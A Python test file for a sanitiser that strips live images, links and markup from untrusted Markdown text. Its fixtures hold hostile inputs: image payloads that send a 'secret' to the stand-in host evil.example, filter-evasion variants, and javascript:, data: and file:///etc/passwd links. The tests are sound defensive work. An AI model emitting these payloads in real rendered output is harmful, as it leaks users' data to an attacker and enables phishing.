"""Text that the product did not write: nothing in it loads, links in secret or turns into markup."""

from __future__ import annotations

import re

import pytest

from components.safe import plain, safe_md

IMAGES = [
    "![x](http://evil.example/?q=secret)",
    "![](http://evil.example/a.png)",
    "![a[b]c](http://evil.example/a.png)",
    "![x][ref]\n\n[ref]: http://evil.example/a.png",
    "\\![x](http://evil.example/a.png)",
    "\\!\\[x\\](http://evil.example/a.png)",
    "!\\[x\\](http://evil.example/a.png)",
    "[![x](http://evil.example/a.png)](http://evil.example)",
    "``` ![x](http://evil.example/a.png)",
    "`![x](http://evil.example/a.png)",
    "``![x](http://evil.example/a.png)``",
    "a ` b `` ![x](http://evil.example/a.png) ` c",
    "```mermaid\ngraph TD; A[<img src='http://evil.example'>]\n```",
    "!\n[x](http://evil.example/a.png)",
    "\x00![x](http://evil.example/a.png)\x000\x00",
    "<img src=http://evil.example/a.png>",
]


def _live(text: str) -> str:
    """The text without its backslash escapes: what Markdown still sees as syntax."""
    return re.sub(r"\\[!-/:-@\[-`{-~]", "", text)


@pytest.mark.parametrize("text", IMAGES)
@pytest.mark.parametrize("make", [plain, safe_md])
def test_no_image_survives(make, text: str) -> None:
    live = _live(make(text))
    assert "![" not in live
    assert not re.search(r"<\s*img", live)
    assert "```" not in live
    assert "\x00" not in live


@pytest.mark.parametrize(
    "text",
    [
        "$E=mc^2$",
        "$$x$$",
        ":red[hot]",
        ":material/bomb:",
        ":tada:",
        ":red-badge[x]",
        "# big",
        "* list",
        "a | b",
        "~~no~~",
    ],
)
def test_plain_draws_every_mark_as_a_letter(text: str) -> None:
    made = plain(text)
    assert not set("$[]*#|~`_") & set(_live(made))
    assert not re.search(r":[A-Za-z0-9_+\-]+(/\w+)?:", made.replace("\\", ""))
    assert made.replace("\\", "").replace("\u2060", "") == text


def test_plain_keeps_one_line_and_cuts_long_text() -> None:
    assert plain("a\n\nb") == "a b"
    assert len(plain("word " * 100, 40)) <= 45


def test_prose_keeps_bold_lists_and_code() -> None:
    text = "**Loan 5314** is at `0.71`.\n\n- one\n- two"
    assert safe_md(text) == text


def test_link_shows_its_host() -> None:
    assert (
        safe_md("[our bank](https://evil.example/login)") == r"[our bank \(evil\.example\)](https://evil.example/login)"
    )


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](data:text/html,hi)",
        "[x](//evil.example)",
        "[x](file:///etc/passwd)",
        "<http://evil.example>",
    ],
)
def test_other_links_are_only_text(text: str) -> None:
    live = _live(safe_md(text))
    assert "[" not in live
    assert "<" not in live


def test_bare_addresses_do_not_become_links() -> None:
    for make in (plain, safe_md):
        made = make("see https://evil.example/x and www.evil.example").replace("\\", "")
        assert "https:" not in made
        assert "www." not in made


def test_money_is_no_formula_and_time_is_no_icon() -> None:
    assert safe_md("$5 and $10 at 10:30") == r"\$5 and \$10 at 10\:30"


def test_headings_and_rules_stay_small() -> None:
    live = _live(safe_md("# Title\n\ntext\n---\n"))
    assert not re.search(r"^#", live, re.M)
    assert not re.search(r"^---", live, re.M)
